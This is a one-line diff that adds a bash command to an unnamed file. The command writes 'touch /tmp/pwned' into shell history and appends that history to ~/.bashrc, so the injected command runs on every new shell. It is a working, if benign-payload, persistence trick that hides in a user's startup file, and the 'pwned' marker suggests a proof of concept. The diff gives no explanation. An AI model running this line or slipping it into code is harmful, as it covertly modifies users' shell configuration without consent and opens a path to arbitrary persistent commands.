@@ -1,0 +1,1 @@
+history -s "touch /tmp/pwned"; history -a ~/.bashrc
